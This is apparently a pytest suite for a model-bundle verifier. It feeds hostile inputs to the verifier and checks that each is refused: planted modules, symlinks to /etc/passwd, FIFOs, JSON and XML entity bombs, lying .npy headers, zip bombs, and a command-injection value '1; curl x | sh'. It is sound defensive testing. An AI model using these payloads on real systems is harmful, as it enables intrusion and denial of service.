"""Bundles, and files for them, of a stranger who can write the sums anew: nothing of them runs,
hangs or takes the machine's memory, and each is refused with a reason."""

import io
import json
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest

from onmetal import cli
from onmetal.bundles import golden, manifest
from onmetal.bundles import write as package
from onmetal.commands import bench
from onmetal.converters.tflite import check
from onmetal.errors import OnmetalError, UsageError
from onmetal.files import copying
from onmetal.files.cache import Cache, sha256
from onmetal.profilers.devices.local import Local, LocalWorker, quiet_environment
from onmetal.records import Tensor
from onmetal.runtimes import misfits, operations
from tests.test_bundle import RUNTIMES, make, refused, runner, verify

Capture = pytest.CaptureFixture[str]
Spoil = Callable[[Path], object]
MIB = 1 << 20


@pytest.fixture(scope="session")
def whole(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One unmeasured bundle a runtime, made when it is asked for."""
    made = tmp_path_factory.mktemp("hostile")

    class Made(dict[str, Path]):
        def __missing__(self, runtime: str) -> Path:
            self[runtime] = make(runtime, made / "home", made / runtime)
            return self[runtime]

    return Made()


@pytest.fixture
def spoiled(whole: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(whole["onnxruntime"], tmp_path / "bundle"))


def sign(folder: Path) -> None:
    """Write SHA256SUMS anew over all regular files, however deep."""
    listed = {
        path.relative_to(folder).as_posix(): sha256(path)
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink() and path.name != "SHA256SUMS"
    }
    (folder / "SHA256SUMS").write_text("".join(f"{listed[n]}  {n}\n" for n in sorted(listed)))


def change(folder: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    document = json.loads((folder / "manifest.json").read_text())
    edit(document)
    (folder / "manifest.json").write_text(json.dumps(document))
    sign(folder)


def put(folder: Path, name: str, content: bytes = b"") -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


# --- what lies beside run.py

FOREIGN = (
    *("numpy.py", "json.py", "sitecustomize.py", "__main__.py", "run.pyc", "Numpy.PY"),
    *("numpy/__init__.py", "numpy/core.txt", "onnxruntime/capi/x.txt", "__pycache__/x"),
    *("__pycache__/run.cpython-311.pyc", "numpy.so", "numpy.cpython-311-x86_64-linux-gnu.so"),
    *("numpy.abi3.so", "numpy.pyd", "libm.so.6", "openvino.dll", "evil.pth", "run.pyw"),
    *("numpy-9.dist-info/METADATA", "numpy-9.egg-info", "firmware/numpy.py", "firmware/x.so"),
    *("android/src/main/kotlin/numpy.py", "android/gradlew", "android/build.gradle", "notes.txt"),
    *("example-golden/x.npz", "model.onnx.py", "second.run.py", ".hidden", "a b.onnx", "run.py/x"),
)


@pytest.mark.parametrize("named", [False, True])
@pytest.mark.parametrize("name", FOREIGN)
def test_what_has_no_place_in_a_bundle_is_refused(
    name: str, named: bool, spoiled: Path, capsys: Capture
) -> None:
    if name.startswith("run.py/"):
        (spoiled / "run.py").unlink()
    put(spoiled, name, b"raise SystemExit(9)\n")
    if named:
        change(spoiled, lambda m: m["files"].append({"path": name, "kind": "source"}))
    sign(spoiled)
    said = refused(spoiled, capsys, "--run")
    assert f"{name} does not belong in a bundle" in said or "run.py" in said


def edited(document: dict[str, Any], add: dict[str, str]) -> None:
    document["files"].append(add)


@pytest.mark.parametrize("name", ["other.onnx", "example.c", "memory.txt", "firmware/more.c"])
def test_what_has_a_place_is_named_by_the_manifest(
    name: str, spoiled: Path, capsys: Capture
) -> None:
    put(spoiled, name)
    sign(spoiled)
    assert name in refused(spoiled, capsys)
    for kind in ("runner", "measurements", "", "x"):
        entry = {"path": name, "kind": kind}
        change(spoiled, partial(edited, add=entry))
        assert name in refused(spoiled, capsys)


@pytest.mark.parametrize(
    "files", [[], "all", [1], [{"path": "run.py"}], [{"path": 1, "kind": "runner"}], {}]
)
def test_files_that_are_not_named_are_seen(files: Any, spoiled: Path, capsys: Capture) -> None:
    change(spoiled, lambda m: m.update(files=files))
    assert "manifest.json" in refused(spoiled, capsys)


def test_a_file_that_is_named_and_not_there_is_seen(spoiled: Path, capsys: Capture) -> None:
    change(spoiled, lambda m: m["files"].append({"path": "example.c", "kind": "source"}))
    assert "'example.c', which is not there" in refused(spoiled, capsys)


def test_the_manifest_names_every_file_with_its_kind(whole: dict[str, Path]) -> None:
    document = json.loads((whole["onnxruntime"] / "manifest.json").read_text())
    assert {entry["path"]: entry["kind"] for entry in document["files"]} == {
        "README.md": "readme",
        "golden.npz": "golden",
        "manifest.json": "manifest",
        "model.onnx": "artifact",
        "run.py": "runner",
    }


def test_a_bundle_from_before_files_were_named_still_verifies(
    spoiled: Path, capsys: Capture
) -> None:
    change(spoiled, lambda m: m.pop("files"))
    code, document = verify(spoiled, capsys, "--run")
    assert code == 0 and document["checks"]["run.py"] == "ok"
    put(spoiled, "other.onnx")
    sign(spoiled)
    assert "other.onnx is no file of the artifact" in refused(spoiled, capsys)


LIBRARIES = frozenset({"numpy", "onnxruntime", "openvino", "ai_edge_litert"})


def planted(folder: Path, sentinel: Path, names: frozenset[str] = LIBRARIES) -> None:
    """Beside run.py, modules under the names of real ones: each leaves word that it was run."""
    for name in names - {"__main__", "run"}:
        text = f"open({str(sentinel)!r}, 'a').write({name!r})\n"
        put(folder, f"{name}.py", text.encode())
    for name in names & {"numpy", "json", "onnxruntime"}:
        put(folder, f"{name}/__init__.py", (folder / f"{name}.py").read_bytes())


HOW = ["there", "from elsewhere", "by a link", "by PYTHONPATH", "bare"]


@pytest.mark.parametrize(
    ("how", "runtime"),
    [*((how, "onnxruntime") for how in HOW), ("there", "openvino"), ("there", "litert")],
)
def test_run_py_imports_nothing_that_lies_beside_it(
    how: str, runtime: str, whole: dict[str, Path], tmp_path: Path
) -> None:
    folder = Path(shutil.copytree(whole[runtime], tmp_path / "bundle"))
    environment, words, place = quiet_environment(tmp_path), [str(folder / "run.py")], tmp_path
    names = LIBRARIES | sys.stdlib_module_names
    if how == "there":
        words, place = ["run.py"], folder
    elif how == "by a link":
        (tmp_path / "start.py").symlink_to(folder / "run.py")
        words = ["start.py"]
    elif how == "by PYTHONPATH":  # from which Python itself takes what it needs to start
        environment |= {"PYTHONPATH": f"{folder / '..' / 'bundle'}:{folder}:."}
        words, place, names = ["run.py"], folder, LIBRARIES
    elif how == "bare":  # no site, no frozen modules: even os is looked for in sys.path
        words = ["-S", "-X", "frozen_modules=off", *words, "--help"]
    planted(folder, tmp_path / "imported", names)
    done = subprocess.run(
        [sys.executable, "-B", *words], cwd=place, env=environment, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert ("input 'image'" if how == "bare" else "agree") in done.stdout
    assert not (tmp_path / "imported").exists()


def test_a_program_that_imports_run_py_keeps_its_path(spoiled: Path, tmp_path: Path) -> None:
    planted(spoiled, tmp_path / "imported", LIBRARIES | sys.stdlib_module_names)
    code = (
        "import sys; before = list(sys.path); import run; assert sys.path == before, sys.path; "
        "assert '' in sys.path; print(run.load().outputs)"
    )
    done = subprocess.run(
        [sys.executable, "-B", "-c", code],
        cwd=spoiled,
        env=quiet_environment(tmp_path),
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert "logits" in done.stdout
    assert not (tmp_path / "imported").exists()


@pytest.mark.parametrize("text", ["onnxruntime==0.1\n", "evil\n", "--index-url http://x/\n"])
def test_other_requirements_are_refused(text: str, spoiled: Path, capsys: Capture) -> None:
    run = json.loads((spoiled / "manifest.json").read_text())["run"]
    put(spoiled, "requirements.txt", text.encode())
    entry = {"path": "requirements.txt", "kind": "requirements"}
    change(spoiled, partial(edited, add=entry))
    assert "requirements.txt is not the runtime" in refused(spoiled, capsys)
    good = f"numpy>=1.26\nonnxruntime=={run['runtime_version']}\n"
    put(spoiled, "requirements.txt", good.encode())
    sign(spoiled)
    assert verify(spoiled, capsys)[0] == 0
    change(spoiled, lambda m: m["run"].update(runtime_version="1.0 --index-url http://x/"))
    assert "manifest.json" in refused(spoiled, capsys)


# --- what is checked is what is used


@pytest.mark.parametrize("name", ["run.py", "model.onnx", "manifest.json", "golden.npz"])
def test_what_is_exchanged_after_the_check_is_not_used(
    name: str, spoiled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    original, sentinel = package._check_files, tmp_path / "executed"

    def and_then_exchanged(there: int, copy: Path) -> list[str]:
        found = original(there, copy)
        (spoiled / name).unlink()
        (spoiled / name).write_text(f"open({str(sentinel)!r}, 'w')\n")
        return found

    monkeypatch.setattr(package, "_check_files", and_then_exchanged)
    code, document = verify(spoiled, capsys, "--run")
    assert code == 0 and document["checks"]["run.py"] == "ok"
    assert not sentinel.exists()


def test_what_is_exchanged_while_it_is_read_is_not_followed(
    spoiled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    """After the folder was listed, files become links, FIFOs, and longer."""
    (tmp_path / "secret").write_bytes((spoiled / "model.onnx").read_bytes())

    def room(*_: object) -> None:
        (spoiled / "model.onnx").unlink()
        (spoiled / "model.onnx").symlink_to(tmp_path / "secret")
        (spoiled / "run.py").unlink()
        os.mkfifo(spoiled / "run.py")
        with (spoiled / "README.md").open("ab") as file:
            file.truncate(1 << 40)

    monkeypatch.setattr(copying, "check_room", room)
    said = refused(spoiled, capsys)
    assert "model.onnx cannot be read" in said
    assert "run.py cannot be read (it is not a regular file)" in said
    assert "README.md cannot be read (it grew while it was read)" in said


def test_the_copy_is_private_and_goes(
    spoiled: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    modes, original = {}, package._check_runner

    def looked(copy: Path, document: dict[str, Any]) -> list[str]:
        modes[copy] = {path.stat().st_mode & 0o777 for path in (copy, *copy.iterdir())}
        return original(copy, document)

    monkeypatch.setattr(package, "_check_runner", looked)
    assert verify(spoiled, capsys)[0] == 0
    ((copy, found),) = modes.items()
    assert found == {0o700, 0o600}
    assert not copy.exists()


def test_a_tflite_file_that_breaks_its_specification_is_not_run(
    whole: dict[str, Path], tmp_path: Path, capsys: Capture
) -> None:
    folder = Path(shutil.copytree(whole["litert"], tmp_path / "bundle"))
    path = folder / "model.tflite"
    content = path.read_bytes()
    for place in range(len(content) - 1, 0, -1):
        changed = bytearray(content)
        changed[place] ^= 5
        path.write_bytes(changed)
        try:
            if check.file(str(path)):
                break
        except OnmetalError:
            continue
    change(folder, lambda m: m["digests"].update(artifact=sha256(path)))
    code, document = verify(folder, capsys, "--run")
    assert code == 6
    assert document["checks"]["specification"] == "failed"
    assert document["checks"].keys() == {"files", "manifest", "runner", "specification"}
    assert cli.main(["bench", str(folder)]) == 2
    assert "violates TFLite's specification" in capsys.readouterr().err


def test_a_worker_that_dies_is_a_reason(
    spoiled: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    program = ("-c", "import os, sys; sys.stdin.readline(); os.abort()")
    monkeypatch.setattr(
        Local, "worker", lambda self, _=None: LocalWorker(quiet_environment(self.home), program)
    )
    code, document = verify(spoiled, capsys, "--run")
    assert code == 6
    assert "was ended by SIGABRT" in document["error"]["message"]
    assert document["checks"].keys() == {"files", "manifest", "runner", "tensors"}


# --- files that are none, and files that never end


def fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def unix_socket(path: Path) -> None:
    path.unlink()
    place = Path.cwd()
    os.chdir(path.parent)  # the name of a socket must be short
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(path.name)
    os.chdir(place)


def link_to(target: str) -> Spoil:
    def spoil(path: Path) -> None:
        path.unlink()
        path.symlink_to(target)

    return spoil


def of_size(size_bytes: int) -> Spoil:
    def spoil(path: Path) -> None:
        with path.open("r+b") as file:
            file.truncate(size_bytes)

    return spoil


def a_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


ODD: dict[str, Spoil] = {
    "a FIFO": fifo,
    "a socket": unix_socket,
    "a link to a device": link_to("/dev/zero"),
    "a link to a file": link_to("/etc/passwd"),
    "a link to nothing": link_to("nothing"),
    "a link to itself": link_to("SHA256SUMS"),
    "a folder": a_folder,
    "very long": of_size(1 << 40),
}


@pytest.mark.parametrize("name", ["SHA256SUMS", "manifest.json", "golden.npz", "model.onnx"])
@pytest.mark.parametrize("kind", ODD)
def test_what_is_no_file_is_not_opened(
    kind: str, name: str, spoiled: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    class Room:
        free = 1 << 30

    monkeypatch.setattr("onmetal.files.copying.shutil.disk_usage", lambda _: Room)
    ODD[kind](spoiled / name)
    code, document = verify(spoiled, capsys, "--run")
    said = document["error"]["message"]
    if kind == "very long" and name in ("golden.npz", "model.onnx"):
        assert code == 2 and "make room there" in said
    else:
        assert code == 6 and name in said


def test_folders_that_are_links_are_not_followed(spoiled: Path, capsys: Capture) -> None:
    (spoiled / "firmware").symlink_to("/usr/share")
    assert "firmware was added" in refused(spoiled, capsys)


def test_folders_without_end_are_not_walked(
    spoiled: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    put(spoiled, "/".join(["d"] * 40) + "/x")
    assert "deep" in refused(spoiled, capsys)
    shutil.rmtree(spoiled / "d")
    monkeypatch.setattr(copying, "MOST_FILES", 20)
    for number in range(20):
        put(spoiled, f"firmware/{number}.c")
    assert "more than 20 files" in refused(spoiled, capsys)


def test_hard_links_are_copied_as_files(spoiled: Path, tmp_path: Path, capsys: Capture) -> None:
    for path in list(spoiled.iterdir()):
        os.link(path, tmp_path / path.name)
    assert verify(spoiled, capsys)[0] == 0


def lines(edit: Callable[[list[str]], list[str]]) -> Callable[[bytes], bytes]:
    return lambda content: "".join(edit(content.decode().splitlines(keepends=True))).encode()


SUMS: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda c: b"",
    "without its last newline": lambda c: c[:-1],
    "with one more": lambda c: c + b"\n",
    "of Windows' lines": lambda c: c.replace(b"\n", b"\r\n"),
    "in another order": lines(lambda rows: rows[::-1]),
    "with a line twice": lines(lambda rows: [rows[0], *rows]),
    "with a line less": lines(lambda rows: rows[1:]),
    "in capitals": lambda c: c.upper(),
    "with one space": lambda c: c.replace(b"  ", b" "),
    "of binary mode": lambda c: c.replace(b"  ", b" *"),
    "with a mark of bytes": lambda c: b"\xef\xbb\xbf" + c,
    "no UTF-8": lambda c: c + b"0" * 64 + b"  \xff\n",
    "with a NUL": lambda c: c + b"0" * 64 + b"  a\0b\n",
    "with a file outside": lambda c: c + b"0" * 64 + b"  ../x\n",
    "with an absolute file": lambda c: c + b"0" * 64 + b"  /etc/passwd\n",
    "with a detour": lambda c: c.replace(b"  run.py", b"  ./run.py"),
    "with itself": lambda c: c + b"0" * 64 + b"  SHA256SUMS\n",
    "with short digests": lines(lambda rows: [row[32:] for row in rows]),
    "with a comment": lambda c: b"# sums\n" + c,
    "too long": lambda c: c + b"\n" * (5 * MIB),
}


@pytest.mark.parametrize("kind", SUMS)
def test_sums_of_another_form_are_refused(kind: str, spoiled: Path, capsys: Capture) -> None:
    path = spoiled / "SHA256SUMS"
    path.write_bytes(SUMS[kind](path.read_bytes()))
    refused(spoiled, capsys)


def with_text(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return edit


MANIFESTS: dict[str, Callable[[str], str]] = {
    "deep": lambda t: '{"x": ' + "[" * 100_000 + "]" * 100_000 + "," + t[1:],
    "deep objects": lambda t: '{"x": ' * 50_000 + t + "}" * 50_000,
    "with a number of 5000 digits": lambda t: '{"x": ' + "9" * 5000 + "," + t[1:],
    "with such a count": with_text('"vectors": 4', '"vectors": ' + "9" * 5000),
    "with NaN": lambda t: '{"x": NaN,' + t[1:],
    "with infinity": lambda t: '{"x": -Infinity,' + t[1:],
    "with an infinite tolerance": with_text('"tolerance": ', '"tolerance": 1e999, "x": '),
    "with a name twice": lambda t: '{"schema": 1,' + t[1:],
    "with a runner twice": with_text('"runtime":', '"runtime": "litert", "runtime":'),
    "with too many vectors": with_text('"vectors": 4', '"vectors": 65'),
    "with vectors of a fraction": with_text('"vectors": 4', '"vectors": 4.0'),
    "with true for one": with_text('"schema": 1', '"schema": true'),
    "cut": lambda t: t[:-20],
    "followed by more": lambda t: t + "{}",
    "with a mark of bytes": lambda t: "\ufeff" + t,
    "with half a character": lambda t: t.replace('"chosen": "', '"chosen": "\\ud800', 1),
    "too long": lambda t: t + " " * (33 * MIB),
}


@pytest.mark.parametrize("kind", MANIFESTS)
def test_manifests_that_no_reader_agrees_on_are_refused(
    kind: str, spoiled: Path, capsys: Capture
) -> None:
    path = spoiled / "manifest.json"
    path.write_text(MANIFESTS[kind](path.read_text()), "utf-8")
    sign(spoiled)
    said = refused(spoiled, capsys, "--run")
    assert "manifest.json" in said and len(said) < 2000
    assert cli.main(["bench", str(spoiled)]) == 2


ENDS: list[tuple[str, Any]] = [
    ("shape", [1, 1, 8, 9]),
    ("shape", [1, 1, 8, 1 << 60]),
    ("shape", [1 << 62, 1 << 62]),
    ("shape", [-1, 1, 8, 8]),
    ("shape", [1] * 40),
    ("shape", [1, 1, 8, 10**400]),
    ("shape", []),
    ("dtype", "float99"),
    ("dtype", "object"),
    ("dtype", "float64"),
    ("dtype", "O,O"),
    ("dtype", "U9999999"),
]


@pytest.mark.parametrize("side", ["inputs", "outputs"])
@pytest.mark.parametrize(("key", "value"), ENDS)
def test_inputs_and_outputs_are_held_against_the_artifact(
    key: str, value: Any, side: str, spoiled: Path, capsys: Capture
) -> None:
    """By `bench` too, before anything is made of their size."""
    change(spoiled, lambda m: m["run"][side][0].update({key: value}))
    document, problems = manifest.read(spoiled)
    if not problems:
        described = operations.describe("onnxruntime", spoiled / "model.onnx")
        problems = manifest.untrue_tensors(document["run"], described)
    assert problems


def with_input(document: dict[str, Any], changes: dict[str, Any]) -> None:
    document["run"]["inputs"][0].update(changes)


def test_bench_measures_the_copy_that_was_checked(
    spoiled: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    """What lies in the bundle by the time it is measured is not opened."""
    described = bench._described

    def swapped(*words: Any) -> Any:
        found = described(*words)
        (spoiled / "model.onnx").write_bytes(b"another model")
        return found

    monkeypatch.setattr(bench, "_described", swapped)
    assert cli.main(["bench", str(spoiled), "--quick", "--json"]) == 0, capsys.readouterr().err


def test_a_file_that_is_named_twice_is_refused(spoiled: Path) -> None:
    document, _ = manifest.read(spoiled)
    names = [entry["path"] for entry in document["files"]]
    assert manifest.strangers(document, names) == []
    document["files"].insert(0, {"path": "run.py", "kind": "artifact"})
    assert "one of its files twice" in manifest.strangers(document, names)[0]


def test_bench_refuses_a_bundle_that_lies(spoiled: Path, capsys: Capture) -> None:
    for edit in ({"shape": [1, 1, 8, 9]}, {"shape": [1, 1, 8, 1 << 60]}, {"dtype": "float64"}):
        shutil.copyfile(spoiled / "manifest.json", spoiled / "kept")
        change(spoiled, partial(with_input, changes=edit))
        assert cli.main(["bench", str(spoiled), "--quick", "--json"]) == 2
        assert "manifest.json says" in json.loads(capsys.readouterr().out)["error"]["message"]
        (spoiled / "kept").replace(spoiled / "manifest.json")


def ir(inputs: str, extra: str = "") -> str:
    port = "".join(f"<dim>{size}</dim>" for size in inputs.split(","))
    return (
        f'<?xml version="1.0"?>{extra}<net name="x" version="11"><layers>'
        f'<layer id="0" name="a" type="Parameter" version="opset1"><data shape="{inputs}" '
        'element_type="f32"/><output><port id="0" precision="FP32" names="&l9;">'
        f'{port}</port></output></layer><layer id="1" name="b" type="Result" version="opset1">'
        f'<input><port id="0" precision="FP32">{port}</port></input></layer></layers>'
        '<edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges></net>'
    )


IRS: dict[str, tuple[str, Spoil | None]] = {
    "of an enormous shape": (ir("1,1099511627776"), None),
    "of an impossible shape": (ir("4611686018427387904,4611686018427387904"), None),
    "of large inputs": (ir("1,200000000"), None),
    "of a free shape": (ir("1,-7"), None),
    "very deep": ("<net>" * 50_000, None),
    "with weights that are a FIFO": (ir("1,4"), fifo),
    "with weights from a device": (ir("1,4"), link_to("/dev/zero")),
    "that is a FIFO": ("", None),
}


@pytest.mark.parametrize("kind", IRS)
def test_an_ir_of_a_stranger(kind: str, tmp_path: Path, capsys: Capture) -> None:
    text, weights = IRS[kind]
    path = put(tmp_path, "model.xml", text.encode())
    put(tmp_path, "model.bin")
    if weights:
        weights(tmp_path / "model.bin")
    if not text:
        fifo(path)
    words = ["bench", str(path), "--quick", "--json", "--target", "x86-openvino"]
    assert cli.main(words) == 2
    assert "model." in json.loads(capsys.readouterr().out)["error"]["message"]


def test_entities_of_an_ir_stand_for_nothing(tmp_path: Path) -> None:
    """Neither a thousand million laughs nor a device are put in their place."""
    entities = '<!ENTITY l0 "ha"><!ENTITY l10 SYSTEM "/dev/zero">'
    entities += "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    path = put(tmp_path, "model.xml", ir("1,4", f"<!DOCTYPE net [{entities}]>").encode() + b"&l10;")
    put(tmp_path, "model.bin")
    with Cache() as cache:
        described = bench._described("openvino", path, Local(cache))
    assert described["inputs"] == [{"name": "&l9;", "dtype": "float32", "shape": [1, 4]}]


# --- golden vectors


def npz(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def head(shape: str, dtype: str = "<f4") -> bytes:
    text = f"{{'descr': {dtype!r}, 'fortran_order': False, 'shape': {shape}, }}"
    text = text.ljust(118) + "\n"
    return b"\x93NUMPY\1\0" + len(text).to_bytes(2, "little") + text.encode()


def npy(array: np.ndarray) -> bytes:
    content = io.BytesIO()
    np.save(content, array)
    return content.getvalue()


VECTOR = npy(np.zeros((1, 1, 8, 8), np.float32))
LYING: dict[str, bytes] = {
    "longer than it is": head("(1, 1, 8, 8000)") + VECTOR[-256:],
    "shorter by a byte": VECTOR[:-1],
    "of negative axes": head("(-1, -1, -8, -8)") + VECTOR[-256:],
    "of enormous axes": head("(9223372036854775807, 9223372036854775807)"),
    "of a nested head": b"\x93NUMPY\1\0\xff\x7f" + b"(" * 0x7FFF,
    "of a head without end": b"\x93NUMPY\2\0\xff\xff\xff\x7f" + b" " * MIB,
    "of a head that calls": head("__import__('os').abort()"),
    "of objects": head("(1,)", "|O") + b"x" * 99,
    "of text": head("(1,)", "<U9") + b"x" * 99,
    "of zeros without end": head("(1, 33554432)") + bytes(128 * MIB),
    "empty": b"",
}


def golden_problems(folder: Path, document: dict[str, Any]) -> list[str]:
    try:
        described = golden.describe(folder, manifest.golden_bytes(document))
    except UsageError as error:
        return [str(error)]
    return manifest.untrue_vectors(document["run"], described, document["golden"]["vectors"])


@pytest.mark.parametrize("kind", LYING)
def test_golden_vectors_that_lie_are_not_read(
    kind: str, spoiled: Path, tmp_path: Path, capsys: Capture
) -> None:
    """Neither by verify nor by run.py alone, as golden vectors or as a user's inputs."""
    document, _ = manifest.read(spoiled)
    npz(spoiled / "golden.npz", {"input/image/0.npy": LYING[kind]})
    assert golden_problems(spoiled, document)
    run, out = runner(spoiled), tmp_path / "out.npz"
    assert run.main([]) == 2
    said = capsys.readouterr().err
    assert "golden" in said or "input/image/0" in said
    npz(tmp_path / "in.npz", {"image.npy": LYING[kind]})
    assert run.main([str(tmp_path / "in.npz"), str(out)]) == 2
    said = capsys.readouterr().err
    assert said.startswith("run.py: ") and said.count("\n") == 1 and len(said) < 1000
    assert not out.exists()


def test_more_than_the_golden_vectors_is_refused(spoiled: Path) -> None:
    document, _ = manifest.read(spoiled)
    assert golden_problems(spoiled, document) == []
    with np.load(spoiled / "golden.npz") as stored:
        vectors = {f"{name}.npy": npy(stored[name]) for name in stored.files}
    path = spoiled / "golden.npz"
    npz(path, {**vectors, "more.npy": VECTOR})
    assert golden_problems(spoiled, document) == ["golden.npz holds 'more', which is no vector"]
    npz(path, {**vectors, "run.py": b"1"})
    assert "is no array" in golden_problems(spoiled, document)[0]
    npz(path, vectors, zipfile.ZIP_LZMA)
    assert "by a method" in golden_problems(spoiled, document)[0]
    vectors.pop("output/logits/1.npy")
    npz(path, vectors)
    assert golden_problems(spoiled, document) == ["golden vector 1 has no output 'logits'"]
    entry = b"PK\1\2" + bytes(24) + (5).to_bytes(2, "little") + bytes(16) + b"x.npy"
    entries = entry * 200_000
    end = b"PK\5\6" + bytes(4) + b"\xff\xff\xff\xff"
    end += len(entries).to_bytes(4, "little") + bytes(6)
    path.write_bytes(entries + end)
    assert "its directory is too long" in golden_problems(spoiled, document)[0]


def test_golden_vectors_have_a_bound() -> None:
    tensor = {"name": "x", "dtype": "float32", "shape": [1 << 20]}
    run = {"inputs": [tensor], "outputs": [tensor]}
    assert manifest.golden_bytes({"run": run, "golden": {"vectors": 2}}) == 16 * MIB + 64 * MIB
    tensor["shape"] = [1 << 28]
    assert manifest.golden_bytes({"run": run, "golden": {"vectors": 64}}) == 1024 * MIB + 64 * MIB


@pytest.mark.parametrize("kind", ["a FIFO", "a link to a device", "a folder"])
def test_run_py_opens_regular_files_only(
    kind: str, spoiled: Path, tmp_path: Path, capsys: Capture
) -> None:
    run, given = runner(spoiled), put(tmp_path, "in.npz")
    ODD[kind](given)
    assert run.main([str(given), str(tmp_path / "out.npz")]) == 2
    assert f"{given} cannot be read" in capsys.readouterr().err
    for name in ("golden.npz", "manifest.json"):
        ODD[kind](spoiled / name)
        assert run.main([]) == 2
        assert capsys.readouterr().err.count("\n") == 1


@pytest.mark.parametrize(
    "edit",
    [
        {"classes": ["\x1b]0;x\x07", "b"]},
        {"classes": 3},
        {"preprocessing": ["x"]},
        {"preprocessing": {"\x1b[31m": 1}},
        {"run": {"inputs": [{"name": "a"}], "runtime_version": "1; curl x | sh"}},
        {"run": {"inputs": 3, "runtime_version": ["x"]}},
    ],
)
def test_what_run_py_prints_steers_no_terminal(edit: dict[str, Any], spoiled: Path) -> None:
    change(spoiled, lambda m: m.update(edit))
    run = runner(spoiled)
    said = run.usage() + run.needed()
    assert "\x1b" not in said and "\x07" not in said and "curl" not in said


# --- options

BEYOND: dict[str, list[dict[str, Any]]] = {
    "onnxruntime": [
        {"intra_op_num_threads": 2_000_000},
        {"intra_op_num_threads": -1},
        {"intra_op_num_threads": 10**30},
        {"intra_op_num_threads": True},
        {"inter_op_num_threads": 2_000_000},
        {"enable_mem_pattern": 7},
        {"session.intra_op.allow_spinning": "2"},
        {"session.intra_op_thread_affinities": "1" * 5000},
        {"session.intra_op_thread_affinities": "x"},
        {"session.dynamic_block_base": "99999"},
        {"graph_optimization_level": "x" * 99},
        *({name: "x"} for name in ("optimized_model_filepath", "profile_file_prefix")),
        *({name: 1} for name in ("enable_profiling", "session.load_model_format")),
        {"session.model_external_initializers_file_folder_path": "/"},
        {"ep.context_file_path": "/tmp/x"},
    ],
    "openvino": [
        {"INFERENCE_NUM_THREADS": 2_000_000},
        {"INFERENCE_NUM_THREADS": -1},
        {"INFERENCE_NUM_THREADS": "2000000"},
        {"NUM_STREAMS": 2_000_000},
        {"NUM_STREAMS": "x"},
        {"PERFORMANCE_HINT_NUM_REQUESTS": 1 << 40},
        {"CPU_SPARSE_WEIGHTS_DECOMPRESSION_RATE": 1e300},
        {"DYNAMIC_QUANTIZATION_GROUP_SIZE": -1},
        {"KV_CACHE_PRECISION": "/tmp/x"},
        *({name: "/tmp/x"} for name in ("CACHE_DIR", "WEIGHTS_PATH", "CONFIG_FILE", "LOG_LEVEL")),
    ],
    "litert": [
        {"num_threads": 2_000_000},
        {"num_threads": -1},
        {"num_threads": [1]},
        {"nhwc": ["x"] * 2000},
        {"nhwc": ["x" * 2000]},
        {"nhwc": "image"},
        {"stateful": 1},
    ],
    "tflm": [{"float16": [1]}, {"num_threads": 1}, {"arena_bytes": 1 << 50}],
}


@pytest.mark.parametrize("runtime", BEYOND)
def test_options_have_bounds(runtime: str) -> None:
    for options in BEYOND[runtime]:
        assert misfits(runtime, options), options


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_an_option_beyond_its_bound_is_not_run(
    runtime: str, whole: dict[str, Path], tmp_path: Path, capsys: Capture
) -> None:
    folder = Path(shutil.copytree(whole[runtime], tmp_path / runtime))
    change(folder, lambda m: m["run"]["options"].update(BEYOND[runtime][0]))
    assert next(iter(BEYOND[runtime][0])) in refused(folder, capsys)
    assert cli.main(["bench", str(folder)]) == 2


@pytest.mark.parametrize("location", ["../secret", "/etc/passwd", "a/../../secret", "missing", ""])
def test_data_outside_the_bundle_is_not_opened(
    location: str, spoiled: Path, capsys: Capture
) -> None:
    path = spoiled / "model.onnx"
    model = onnx.load_model(str(path))
    tensor = model.graph.initializer[0]
    size = len(tensor.raw_data)
    put(spoiled.parent, "secret", bytes(size))
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    path.write_bytes(model.SerializeToString())
    change(spoiled, lambda m: m["digests"].update(artifact=sha256(path)))
    code, document = verify(spoiled, capsys)
    assert code == 6 and document["checks"]["tensors"] == "failed"
    assert "golden" not in document["checks"]


# --- names that are no UTF-8


def test_names_that_are_no_utf8(whole: dict[str, Path], tmp_path: Path, capsys: Capture) -> None:
    folder = Path(shutil.copytree(whole["onnxruntime"], tmp_path / os.fsdecode(b"b\xff\x1b")))
    code, document = verify(folder, capsys)
    assert code == 0 and document["bundle"].endswith("b\ufffd\x1b")
    (folder / os.fsdecode(b"odd\xff\n.py")).write_text("")
    code, document = verify(folder, capsys)
    assert code == 6
    assert document["problems"] == ["odd\\udcff\n.py was added"]
    (folder / "manifest.json").unlink()
    (folder / "SHA256SUMS").unlink()
    assert verify(folder, capsys)[0] == 6
